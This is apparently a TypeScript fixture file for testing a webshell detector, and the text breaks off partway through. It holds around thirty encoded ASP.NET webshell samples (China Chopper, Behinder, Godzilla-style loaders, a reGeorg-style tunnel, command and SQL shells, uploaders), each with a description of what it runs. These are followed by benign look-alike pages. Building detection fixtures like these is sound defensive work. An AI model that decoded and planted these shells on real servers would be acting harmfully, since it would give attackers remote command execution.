// Test files for the webshell content detector, made by us: shell variants (stored encoded, see data/yara/README.md) and benign look-alikes.

import { decodeAtRest } from '../yara/encoding.js';

interface ContentFixture {
  name: string;
  what: string;
  text: string;
}

/** Each must be found as a webshell; the suffix is the extension the file runs as. */
export const SHELL_FIXTURES: readonly ContentFixture[] = [
  {
    name: 'antsword-csharp.aspx',
    what: 'AntSword C# style: Assembly.Load of base64 form data',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZFBmKTkoMyoueigvNDsuZ3gpPygsPyh4ZFAqKDUuPzku\nPz56LDUzPnoKOz0/BRY1Oz5yNTgwPzkueil2egkjKS4/N3QfLD80LhsoPSl6P3N6IVB6eiw7KHo7\nKTd6Z3oJIykuPzd0CD88Nj85LjM1NHQbKSk/Nzg2I3QWNTs+cgkjKS4/N3QZNTQsPygudBwoNTcY\nOyk/bG4JLigzND1yCD8rLz8pLnQcNSg3AXg7NC54B3NzYVB6ejspN3QZKD87Lj8TNCkuOzQ5P3J4\nCC80eHN0HysvOzYpchk1NC4/Ii5zYVAnUGZ1KTkoMyouZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'app-code-backdoor.cs',
    what: 'App_Code module starting PowerShell from a request header',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nLykzND16CSMpLj83dA0/OGFQKi84NjM5ejk2Oykpeg4/Nj83Py4oI3pgehMSLi4qFzU+LzY/eiFQ\nenoqLzg2Mzl6LDUzPnoTNDMuchIuLiobKio2Mzk7LjM1NHo7KipzeiF6OyoqdBg/PTM0CD8rLz8p\nLnpxZ3pyKXZ6P3N6Z2R6IVB6enp6LDsoejl6Z3oSLi4qGTU0Lj8iLnQZLygoPzQuYXosOyh6Inpn\nejl0CD8rLz8pLnQSPzs+PygpAXgCdx4zOz14B2FQenp6ejM8enIientnejQvNjZzegkjKS4/N3Qe\nMzs9NDUpLjM5KXQKKDU5PykpdAkuOygucngqNS0/KCkyPzY2dD8iP3h2enh3PzQ5enh6cXoic2F6\nJ2F6J1B6eiovODYzOXosNTM+eh4zKSo1KT9yc3ohJ1AnUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'base64-hidden.aspx',
    what: 'shell code inside a base64 string literal',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2Rmf1AsOyh6KXpnengPNwwgOR1jLzloDy8MaRAq\nPh0PNTg3DGkTHxwwPh02aAAMMgoDNyo2A2kLNRM2Pg4DaRAqORILLw9oMjY4HS0zEQlvHD8dDDAR\nHBA2OQIMNjlpCy8JAgg2OAwpMwMjED4RCW8OPh0ICj4CCy8PNwwyAB8cKTgZPSoRC2dneGFQLDso\nejk1Pj96Z3oJIykuPzd0Dj8iLnQfNDk1PjM0PXQPDhxidB0/LgkuKDM0PXIJIykuPzd0GTU0LD8o\nLnQcKDU3GDspP2xuCS4oMzQ9cilzc2FQLjIzKXQIPykqNTQpP3QNKDMuP3I5NT4/dDY/ND0uMnNh\nUH9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'behinder-like.aspx',
    what: 'Behinder-style: Assembly.Load of the decrypted request body',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZGZ/GhM3KjUoLnoUOzc/KSo7OT9neAkjKS4/N3QIPzw2\nPzkuMzU0eH9kUGZ/CT8pKTM1NHQbPj5yeDF4dng/bm8/aWhjPD84bz5jaG84eHNhOCMuPwEHejFn\nHzQ5NT4zND10Hj88Oy82LnQdPy4YIy4/KXIJPykpMzU0AWoHcXh4c3Y5Zwg/Ky8/KS50GDM0Oygj\nCD87PnIIPysvPykudBk1NC4/NC4WPzQ9LjJzYVAbKSk/Nzg2I3QWNTs+cjQ/LXoJIykuPzd0CT85\nLygzLiN0GSgjKi41PSg7KjIjdAgzMDQ+Oz82Fzs0Oz0/PnJzdBkoPzsuPx4/OSgjKi41KHIxdjFz\ndA4oOzQpPDUoNxwzNDs2GDY1OTFyOXZqdjl0Fj80PS4yc3N0GSg/Oy4/EzQpLjs0OT9yeA94c3Qf\nKy87NilyLjIzKXNhf2RQ\n',
    ).toString('latin1'),
  },
  {
    name: 'chararray-cmd.aspx',
    what: 'cmd spelled as a char array',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZFBmf3opLigzND16PyI/emd6ND8teikuKDM0PXI0Py16\nOTI7KAEHeiF6fTl9dnp9N312en0+fXonc2FQenp6LDsoeiozemd6ND8tegkjKS4/N3QeMzs9NDUp\nLjM5KXQKKDU5PykpCS47KC4TNDw1cj8iP3Z6eHU5enh6cXoIPysvPykudBw1KDcBeCJ4B3NhUHp6\neiozdA8pPwkyPzY2HyI/OS8uP3pnejw7Nik/YXoJIykuPzd0HjM7PTQ1KS4zOSl0Cig1OT8pKXQJ\nLjsoLnIqM3Nhen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'chopper-base64.aspx',
    what: 'China Chopper, request value base64-decoded before eval',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2Rmfz8sOzZyCSMpLj83dA4/Ii50HzQ5NT4zND10\nDw4cYnQdPy4JLigzND1yCSMpLj83dBk1NCw/KC50HCg1Nxg7KT9sbgkuKDM0PXIIPysvPykudBMu\nPzcBeCB4B3NzdngvNCk7PD94c2F/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'chopper-charcode.aspx',
    what: 'China Chopper with String.fromCharCode names',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54eh4/OC89Z3g8OzYpP3h/ZFBmf3osOyh6PHpnei4y\nMylhejx0CD8pKjU0KT90DSgzLj9yPyw7NnIIPysvPykudBMuPzcBCS4oMzQ9dDwoNTcZMjsoGTU+\nP3Jra2h2Y212a2tvdmtrb3MHdnoJLigzND10PCg1NxkyOygZNT4/cmtrbXZra2p2a2tvdmNtdmtq\naHZramtzc3Nhen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'chopper-hex-escapes.aspx',
    what: 'China Chopper with \\x escapes',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2RQZn9QLDsoejF6Z3p4BiJtagYibGsGIm1pBiJt\naXhhUD8sOzZyCD8rLz8pLnQcNSg3ATEHdnp4BiJtbwYibD8GIm1pBiJsawYibGwGImxveHNhUH9k\nUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'chopper-jscript.aspx',
    what: 'China Chopper one-liner',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2Rmfz8sOzZyCD8rLz8pLnQTLj83AXgxbXgHdngv\nNCk7PD94c2F/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'chopper-unicode-comments.aspx',
    what: 'China Chopper with \\u escape, comment between tokens, split "unsafe"',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2RQZik5KDMqLnooLzQ7Lmd4KT8oLD8oeGRQPC80\nOS4zNTR6Cjs9PwUWNTs+cnMhej8sOzZ1cCJrcHVyCD8GL2pqbWsvPykudBMuPzcBeDt4B3Z6eC80\neHpxengpOzw/eHNheidQZnUpOSgzKi5kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'chopper-url-escape.aspx',
    what: 'eval of an unescape()d %xx string',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2Rmfyw7KHo5Zy80Pyk5Oyo/cnh/b2h/bG9/bWt/\nbW9/bG9/bWl/bW5/aD9/bmx/bDx/bWh/bD5/bzh/aGh/bGl/aGh/bz54c2E/LDs2cj8sOzZyOXN2\neC80eHF4KTs8P3hzYX9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'classic-execute.asp',
    what: 'classic ASP execute request',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aehY7ND0vOz0/ZwwYCTkoMyouen9kUGZ/ej8iPzkvLj96KD8rLz8pLnJ4Inhzen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'classic-wscript.asp',
    what: 'classic ASP WScript.Shell spelled backwards',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn96CT8uejV6Z3oJPygsPyh0GSg/Oy4/FTgwPzkucgkuKAg/LD8oKT9yeDY2PzIJdC4qMyg5CQ14\nc3N6YHoIPykqNTQpP3QNKDMuP3o1dB8iPzlyCD8rLz8pLnJ4OXhzc3QJLj4VLy50CD87Phs2NnJz\nen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'context-request-dropper.ashx',
    what: 'dropper writing request data to a request-named path under the site',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aeg0/OBI7ND42Pyh6Fjs0PS87PT9neBl5eHoZNjspKWd4Hnh6f2RQLykzND16CSMpLj83dA0/\nOGF6LykzND16CSMpLj83dBMVYVAqLzg2Mzl6OTY7KSl6HnpgehMSLi4qEjs0PjY/KHoheiovODYz\nOXo4NTU2ehMpCD8vKTs4Nj96IXo9Py56IXooPy4vKDR6LigvP2F6J3onUHp6Ki84NjM5eiw1Mz56\nCig1OT8pKQg/Ky8/KS5yEi4uKhk1NC4/Ii56OTU0Lj8iLnN6IVB6enp6HDM2P3QNKDMuPxs2Ng4/\nIi5yOTU0Lj8iLnQJPygsPyh0FzsqCjsuMnJ4JHV4enF6OTU0Lj8iLnQIPysvPykudBw1KDcBeDR4\nB3N2ejk1NC4/Ii50CD8rLz8pLnQcNSg3AXg4eAdzYVB6eidQJ1A=\n',
    ).toString('latin1'),
  },
  {
    name: 'customize-handler.ashx',
    what: 'Chopper customize.ashx-style handler running a command from Request.Form',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aeg0/OBI7ND42Pyh6Fjs0PS87PT9neBl5eHoZNjspKWd4CD82OyN4en9kUC8pMzQ9egkjKS4/\nN2F6LykzND16CSMpLj83dA0/OGF6LykzND16CSMpLj83dB4zOz00NSkuMzkpYVAqLzg2Mzl6OTY7\nKSl6CD82OyN6YHoTEi4uKhI7ND42Pyh6IVB6eiovODYzOXo4NTU2ehMpCD8vKTs4Nj96IXo9Py56\nIXooPy4vKDR6PDs2KT9heid6J1B6eiovODYzOXosNTM+egooNTk/KSkIPysvPykuchIuLioZNTQu\nPyIuejkuInN6IVB6enp6KS4oMzQ9eiBqemd6OS4idAg/Ky8/KS50HDUoNwF4IGp4B2FQenp6eiku\nKDM0PXoga3pnejkuInQIPysvPykudBw1KDcBeCBreAdhUHp6enosOyh6KnpnejQ/LXoKKDU5Pykp\nCS47KC4TNDw1ciBqdAkvOCkuKDM0PXJoc3Z6IGt0CS84KS4oMzQ9cmhzc2FQenp6eip0Dyk/CTI/\nNjYfIj85Ly4/emd6PDs2KT9heip0CD8+Myg/OS4JLjs0PjsoPhUvLiovLnpnei4oLz9hUHp6eno5\nLiJ0CD8pKjU0KT90DSgzLj9yCig1OT8pKXQJLjsoLnIqc3QJLjs0PjsoPhUvLiovLnQIPzs+DjUf\nND5yc3NhUHp6J1AnUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'customize-service.asmx',
    what: 'Chopper customize.asmx-style web service: SQL and process from WebMethod arguments',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aeg0/OAk/KCwzOT96Fjs0PS87PT9neBl5eHoZNjspKWd4DjU1Nil4en9kUC8pMzQ9egkjKS4/\nN3QNPzh0CT8oLDM5Pylhei8pMzQ9egkjKS4/N3QeOy47dAkrNhk2Mz80LmFQKi84NjM5ejk2Oykp\neg41NTYpemB6DT84CT8oLDM5P3ohUHp6AQ0/OBc/LjI1Pgd6Ki84NjM5eikuKDM0PXoLLz8oI3Ip\nLigzND16OSl2eikuKDM0PXorc3ohUHp6enovKTM0PXpyLDsoejl6Z3o0Py16CSs2GTU0ND85LjM1\nNHI5KXNzeiF6OXQVKj80cnNheiw7KHo5Nz56Z3o0Py16CSs2GTU3Nzs0PnIrdno5c2F6KD8uLyg0\negkjKS4/N3QZNTQsPygudA41CS4oMzQ9cjk3PnQfIj85Ly4/CTk7NjsocnNzYXonUHp6J1B6egEN\nPzgXPy4yNT4HeiovODYzOXopLigzND16CC80cikuKDM0PXo8dnopLigzND16O3N6IVB6enp6LDso\neiopM3pnejQ/LXoJIykuPzd0HjM7PTQ1KS4zOSl0Cig1OT8pKQkuOyguEzQ8NXI8dno7c3oheg8p\nPwkyPzY2HyI/OS8uP3pnejw7Nik/dnoIPz4zKD85LgkuOzQ+Oyg+FS8uKi8uemd6LigvP3onYVB6\nenp6KD8uLyg0egkjKS4/N3QeMzs9NDUpLjM5KXQKKDU5PykpdAkuOyguciopM3N0CS47ND47KD4V\nLy4qLy50CD87Pg41HzQ+cnNhUHp6J1AnUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'file-browser.aspx',
    what: 'file browser: drives, directory listing and delete from the query string',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZFBmf3o8NSg/OzkyenIsOyh6PnozNHoJIykuPzd0ExV0\nHjMoPzkuNSgjdB0/LhY1PTM5OzYeKDMsPylyc3N6CD8pKjU0KT90DSgzLj9yPnpxenhmOChkeHNh\nUHp6eiw7KHo+M3pnejQ/LXoJIykuPzd0ExV0HjMoPzkuNSgjEzQ8NXIIPysvPykudAsvPygjCS4o\nMzQ9AXg+eAd6ZWV6eBlgBgZ4c2FQenp6PDUoPzs5MnpyLDsoejx6MzR6PjN0HT8uHDM2Pylyc3N6\nCD8pKjU0KT90DSgzLj9yPHQcLzY2FDs3P3pxenhmOChkeHNhUHp6ejM8enIIPysvPykudAsvPygj\nCS4oMzQ9AXg+PzZ4B3p7Z3o0LzY2c3oJIykuPzd0ExV0HDM2P3QePzY/Lj9yCD8rLz8pLnQLLz8o\nIwkuKDM0PQF4Pj82eAdzYXp/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'godzilla-like.aspx',
    what: 'Godzilla-style: AES-decrypted request loaded as an assembly through reflection, kept in the session',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eH9kZn8uKCMhKS4oMzQ9ejFneGo7azhoOWk+bj9vPGw7bTh4\nYSkuKDM0PXoqZ3gxPyN4YVA4Iy4/AQd6PmcJIykuPzd0GTU0LD8oLnQcKDU3GDspP2xuCS4oMzQ9\nchk1NC4/Ii50CD8rLz8pLgEqB3NhUD5nND8tegkjKS4/N3QJPzkvKDMuI3QZKCMqLjU9KDsqMiN0\nCDMwND47PzYXOzQ7PT8+cnN0GSg/Oy4/Hj85KCMqLjUocgkjKS4/N3QOPyIudB80OTU+MzQ9dB4/\nPDsvNi50HT8uGCMuPylyMXN2CSMpLj83dA4/Ii50HzQ5NT4zND10Hj88Oy82LnQdPy4YIy4/KXIx\nc3N0Dig7NCk8NSg3HDM0OzYYNjU5MXI+dmp2PnQWPzQ9LjJzYVAzPHIZNTQuPyIudAk/KSkzNTQB\neCo2eAdnZzQvNjZzIRk1NC4/Ii50CT8pKTM1NAF4KjZ4B2dyCSMpLj83dAg/PDY/OS4zNTR0Gykp\nPzc4NiNzLiMqPzU8cgkjKS4/N3QIPzw2PzkuMzU0dBspKT83ODYjc3QdPy4XPy4yNT5yeBY1Oz54\ndjQ/LXoJIykuPzd0DiMqPwEHIS4jKj81PHI4Iy4/AQdzJ3N0EzQsNTE/cjQvNjZ2ND8tejU4MD85\nLgEHIT4nc2EnUD82KT8hNTgwPzkuejVncnIJIykuPzd0CD88Nj85LjM1NHQbKSk/Nzg2I3MZNTQu\nPyIudAk/KSkzNTQBeCo2eAdzdBkoPzsuPxM0KS47NDk/cngLeHNhNXQfKy87NilyGTU0Lj8iLnNh\nNXQfKy87NilyPnNhCD8pKjU0KT90DSgzLj9yNXQONQkuKDM0PXJzc2EnJzk7LjkycgkjKS4/N3Qf\nIjk/Ki4zNTRzISd/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'powershell-runspace.aspx',
    what: 'Antak-style PowerShell runspace on form data',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZGZ/GnoTNyo1KC56FDs3PykqOzk/Z3gJIykuPzd0Fzs0\nOz0/Nz80LnQbLy41NzsuMzU0eHp/ZFBmf3osOyh6Kil6Z3oKNS0/KAkyPzY2dBkoPzsuP3JzYXoq\nKXQbPj4JOSgzKi5yCD8rLz8pLnQcNSg3AXgqKXgHc2F6PDUoPzs5MnpyLDsoejV6MzR6Kil0EzQs\nNTE/cnNzegg/KSo1NCk/dA0oMy4/cjVzYXp/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'razor-shell.cshtml',
    what: 'Razor page starting cmd.exe',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nGiFQenp6eiw7KHoremd6CD8rLz8pLgF4OXgHYVB6enp6LDsoeip6Z3oJIykuPzd0HjM7PTQ1KS4z\nOSl0Cig1OT8pKXQJLjsoLnI0Py16CSMpLj83dB4zOz00NSkuMzkpdAooNTk/KSkJLjsoLhM0PDVy\neDk3PnQ/Ij94dnp4dTl6eHpxeitzeiF6CD8+Myg/OS4JLjs0PjsoPhUvLiovLnpnei4oLz92eg8p\nPwkyPzY2HyI/OS8uP3pnejw7Nik/eidzYVAnUGYqKD9kGip0CS47ND47KD4VLy4qLy50CD87Pg41\nHzQ+cnNmdSooP2RQ\n',
    ).toString('latin1'),
  },
  {
    name: 'reflection-process.aspx',
    what: 'Process.Start reached by reflection on a split type name',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZFBmf3osOyh6LnpnegkjKS4/N3QOIyo/dB0/Lg4jKj9y\neAkjKS4/N3QeMzs9eHpxeng0NSkuMzkpdAooNXh6cXp4OT8pKXhzYVB6enosOyh6N3pnei50HT8u\nFz8uMjU+cngJLjsoLnh2ejQ/LXoJIykuPzd0DiMqPwEHeiF6LiMqPzU8cikuKDM0PXN2ei4jKj81\nPHIpLigzND1zeidzYVB6eno3dBM0LDUxP3I0LzY2dno0Py16NTgwPzkuAQd6IXp4OXh6cXp4Nz50\nPyI/eHZ6eHU5enh6cXoIPysvPykudAsvPygjCS4oMzQ9AXgreAd6J3Nhen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'replace-trick.aspx',
    what: 'WScript.Shell hidden with String.Replace',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBApOSgzKi54f2Rmf3osOyh6NXpnejQ/LXobOS4zLD8CFTgwPzku\ncngNAgk5AigzAioudAkyAj82Nnh0CD8qNjs5P3J4Anh2eHhzc2F6NXQILzRyCD8rLz8pLnQTLj83\nAXg5eAdzYXp/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'runtime-compile.aspx',
    what: 'C# compiled at run time from the request',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZFBmf3osOyh6Kig1LHpnejQ/LXoXMzkoNSk1PC50GQky\nOygqdBkJMjsoKhk1Pj8KKDUsMz4/KHJzYVB6enosOyh6KD8pemd6Kig1LHQZNTcqMzY/GykpPzc4\nNiMcKDU3CTUvKDk/cjQ/LXoJIykuPzd0GTU+Px41N3QZNTcqMzY/KHQZNTcqMzY/KAo7KDs3Py4/\nKClyc3Z6CD8rLz8pLnQcNSg3AXgpKDl4B3NhUHp6eig/KXQZNTcqMzY/PhspKT83ODYjdBkoPzsu\nPxM0KS47NDk/cngCeHNhen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'sql-shell.aspx',
    what: 'SQL shell: connection string and query from the form',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZGZ/GnoTNyo1KC56FDs3PykqOzk/Z3gJIykuPzd0Hjsu\nO3QJKzYZNjM/NC54en9kUGYpOSgzKi56KC80Oy5neCk/KCw/KHhkUCw1Mz56HTVyNTgwPzkueil2\negkjKS4/N3QfLD80LhsoPSl6P3N6IVB6ei8pMzQ9enIsOyh6OXpnejQ/LXoJKzYZNTQ0PzkuMzU0\ncgg/Ky8/KS50HDUoNwF4OSl4B3NzeiF6OXQVKj80cnNhUHp6enosOyh6KHpnejQ/LXoJKzYZNTc3\nOzQ+cgg/Ky8/KS50HDUoNwF4K3gHdno5c3QfIj85Ly4/CD87Pj8ocnNhej0oMz50HjsuOwk1Lyg5\nP3pneihhej0oMz50HjsuOxgzND5yc2F6J1AnUGZ1KTkoMyouZFBmPDUoN3ooLzQ7Lmd4KT8oLD8o\neGRmOykqYBgvLi41NHooLzQ7Lmd4KT8oLD8oeHoVNBk2MzkxZ3gdNXh6Dj8iLmd4HTV4dWRmOykq\nYB0oMz4MMz8tehMeZ3g9KDM+eHooLzQ7Lmd4KT8oLD8oeHVkZnU8NSg3ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'tunnel.ashx',
    what: 'reGeorg-style tunnel: TCP connection to a host from request headers, kept in the session',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aeg0/OBI7ND42Pyh6Fjs0PS87PT9neBl5eHoZNjspKWd4Dnh6f2RQLykzND16CSMpLj83YXov\nKTM0PXoJIykuPzd0DT84YXovKTM0PXoJIykuPzd0FD8udAk1OTE/Lilhei8pMzQ9egkjKS4/N3QN\nPzh0CT8pKTM1NAkuOy4/YVAqLzg2Mzl6OTY7KSl6DnpgehMSLi4qEjs0PjY/KHZ6Ewg/Ky8zKD8p\nCT8pKTM1NAkuOy4/eiFQenoqLzg2Mzl6ODU1NnoTKQg/Lyk7ODY/eiF6PT8ueiF6KD8uLyg0ejw7\nNik/YXoneidQenoqLzg2Mzl6LDUzPnoKKDU5PykpCD8rLz8pLnISLi4qGTU0Lj8iLno5c3ohUHp6\nenopLigzND16Mnpnejl0CD8rLz8pLnQSPzs+PygpAXgCdxI1KS54B2F6MzQueio1KC56Z3ozNC50\nCjsoKT9yOXQIPysvPykudBI/Oz4/KCkBeAJ3CjUoLngHc2FQenp6eiw7KHouOSp6Z3o0Py16Djkq\nGTYzPzQucjJ2eio1KC5zYVB6enp6OXQJPykpMzU0AXguOSoFNjM0MXgHemd6LjkqYVB6enp6LDso\nejQpemd6LjkqdB0/LgkuKD87N3JzYXosOyh6OC88emd6OXQIPysvPykudBgzNDsoIwg/Oz5yOXQI\nPysvPykudBk1NC4/NC4WPzQ9LjJzYXo0KXQNKDMuP3I4Lzx2emp2ejgvPHQWPzQ9LjJzYVB6eidQ\nJ1A=\n',
    ).toString('latin1'),
  },
  {
    name: 'uploader.aspx',
    what: 'uploader saving to a path from the form',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZGZ/ejM8enIIPysvPykudBwzNj8pdBk1LzQuemR6anN6\nCD8rLz8pLnQcMzY/KQFqB3QJOyw/GylyCD8rLz8pLnQcNSg3AXguNXgHc2F6f2RQZjw1KDd6Nz8u\nMjU+Z3gqNSkueHo/NDkuIyo/Z3g3LzYuMyo7KC51PDUoN3c+Oy47eGRmMzQqLy56LiMqP2d4PDM2\nP3h6NDs3P2d4PHhkZjM0Ki8uejQ7Nz9neC41eGRmMzQqLy56LiMqP2d4KS84NzMueGRmdTw1KDdk\nUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'vb-chr.aspx',
    what: 'VB with Chr() codes and a line continuation',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neAwYeHp/ZFBmf3oeMzd6KnobKXoUPy16CSMpLj83dB4zOz00NSku\nMzkpdAooNTk/KSlyc1B6enoqdAkuOyguEzQ8NXQcMzY/FDs3P3pnehkyKHJjY3N6fHoZMihya2pj\nc3p8ehkyKHJrampzenx6eHQ/Ij94UHp6eip0CS47KC4TNDw1dBsoPS83PzQuKXpnenh1OXp4enx6\nBVB6enp6enoIPysvPykudBw1KDdyeDl4c1B6enoqdAkuOyguEzQ8NXQPKT8JMj82Nh8iPzkvLj96\nZ3ocOzYpP1B6enoqdAkuOygucnN6f2RQ\n',
    ).toString('latin1'),
  },
  {
    name: 'web.config',
    what: 'web.config run as classic ASP with a shell appended',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZmUiNzZ6LD8oKTM1NGd4a3RqeHo/NDk1PjM0PWd4Dw4cd2J4ZWRQZjk1NDwzPS8oOy4zNTRkUHp6\nZikjKS4/N3QtPzgJPygsPyhkUHp6enpmMjs0PjY/KCl6Ozk5PykpCjU2MzkjZ3gIPzs+dnoJOSgz\nKi52eg0oMy4/eGRQenp6enp6Zjs+Pno0Ozc/Z3gtPzgFOTU0PDM9eHoqOy4yZ3hwdDk1NDwzPXh6\nLD8oOGd4cHh6NzU+LzY/KWd4Eyk7KjMXNT4vNj94eik5KDMqLgooNTk/KSk1KGd4fy0zND4zKH8G\nKSMpLj83aWgGMzQ/LikoLAY7KSp0PjY2eHooPyk1Lyg5Pw4jKj9neA80KSo/OTM8Mz8+eHooPysv\nMyg/Gzk5PykpZ3gNKDMuP3h6Kig/GTU0PjMuMzU0Z3g4My40PykpbG54enVkUHp6enpmdTI7ND42\nPygpZFB6enp6Zik/OS8oMy4jZGYoPysvPykuHDM2Lj8oMzQ9ZGY8MzY/HyIuPzQpMzU0KWRmKD83\nNSw/ejwzNj8fIi4/NCkzNTRneHQ5NTQ8Mz14enVkZnU8MzY/HyIuPzQpMzU0KWRmMjM+Pj80CT89\nNz80LilkZig/NzUsP3opPz03PzQuZ3gtPzh0OTU0PDM9eHp1ZGZ1MjM+Pj80CT89Nz80LilkZnUo\nPysvPykuHDM2Lj8oMzQ9ZGZ1KT85LygzLiNkUHp6ZnUpIykuPzd0LT84CT8oLD8oZFBmdTk1NDwz\nPS8oOy4zNTRkUGZ/egg/KSo1NCk/dA0oMy4/chkoPzsuPxU4MD85LnJ4DQk5KDMqLnQJMj82Nnhz\ndB8iPzlyCD8rLz8pLnQLLz8oIwkuKDM0PXJ4OXhzc3QJLj4VLy50CD87Phs2NnJzc3p/ZFA=\n',
    ).toString('latin1'),
  },
  {
    name: 'xp-cmdshell.aspx',
    what: 'xp_cmdshell split in two strings',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZFBmf3osOyh6OTc+emd6ND8tegkjKS4/N3QeOy47dAkr\nNhk2Mz80LnQJKzYZNTc3OzQ+cnNhejk3PnQZNTc3OzQ+Dj8iLnpneng/Ij85ejc7KS4/KHR0IioF\neHpxeng5Nz4pMj82Nnp9eHpxegg/Ky8/KS4BeDl4B3QIPyo2Ozk/cnh9eHZ6eH19eHN6cXp4fXhh\nen9kUA==\n',
    ).toString('latin1'),
  },
  {
    name: 'xslt-loader.aspx',
    what: 'XSLT loader with scripts enabled on a stylesheet from the request',
    text: decodeAtRest(
      'exhunt-encoded xor=5a\nZn8aego7PT96Fjs0PS87PT9neBl5eHp/ZGZ/GnoTNyo1KC56FDs3PykqOzk/Z3gJIykuPzd0Ajc2\neHp/ZGZ/GnoTNyo1KC56FDs3PykqOzk/Z3gJIykuPzd0Ajc2dAIpNnh6f2RQZn96LDsoeiJ6Z3o0\nPy16Aik2GTU3KjM2Pz4OKDs0KTw1KDdyc2FQenp6LDsoej41OXpnejQ/LXoCNzYeNTkvNz80LnJz\nYXo+NTl0FjU7PgI3NnIJIykuPzd0Dj8iLnQfNDk1PjM0PXQPDhxidB0/LgkuKDM0PXIJIykuPzd0\nGTU0LD8oLnQcKDU3GDspP2xuCS4oMzQ9cgg/Ky8/KS50HDUoNwF4KXgHc3NzYVB6enoidBY1Oz5y\nPjU5dno0Py16Aik2Lgk/Li4zND0pci4oLz92ei4oLz9zdno0Py16Ajc2Dyg2CD8pNTYsPyhyc3Nh\nUHp6eiJ0Dig7NCk8NSg3cjQ/LXoCNzYeNTkvNz80LnJzdno0LzY2dnoIPykqNTQpP3QVLy4qLy5z\nYXp/ZFA=\n',
    ).toString('latin1'),
  },
];

/** Real-world-looking pages that read the request and do nothing dangerous: none may be a webshell. */
export const BENIGN_FIXTURES: readonly ContentFixture[] = [
  {
    name: 'Global.asax',
    what: 'error logger appending the request URL to a log file',
    text: '<%@ Application Language="C#" %>\n<script runat="server">\n    void Application_Error(object sender, EventArgs e)\n    {\n        Exception ex = Server.GetLastError();\n        string line = DateTime.UtcNow.ToString("o") + " " + Request.Url + " " + Request.UserAgent + " " + ex;\n        System.IO.File.AppendAllText(Server.MapPath("~/App_Data/errors.log"), line + Environment.NewLine);\n    }\n</script>\n',
  },
  {
    name: 'ajax-legacy.aspx',
    what: 'client-side eval of an XMLHttpRequest response',
    text: '<%@ Page Language="C#" %>\n<html><head><title>Status</title>\n<script type="text/javascript">\n  function refresh() {\n    var request = new XMLHttpRequest();\n    request.open("GET", "status.ashx?since=" + encodeURIComponent(window.lastSeen || ""), true);\n    request.onreadystatechange = function () {\n      if (request.readyState === 4 && request.status === 200) {\n        var data = eval("(" + request.responseText + ")");\n        document.getElementById("count").innerHTML = data.count;\n      }\n    };\n    request.send(null);\n  }\n  window.setInterval(refresh, 30000);\n</script></head>\n<body><span id="count"><%= Server.HtmlEncode(Request.QueryString["initial"] ?? "0") %></span></body></html>\n',
  },
  {
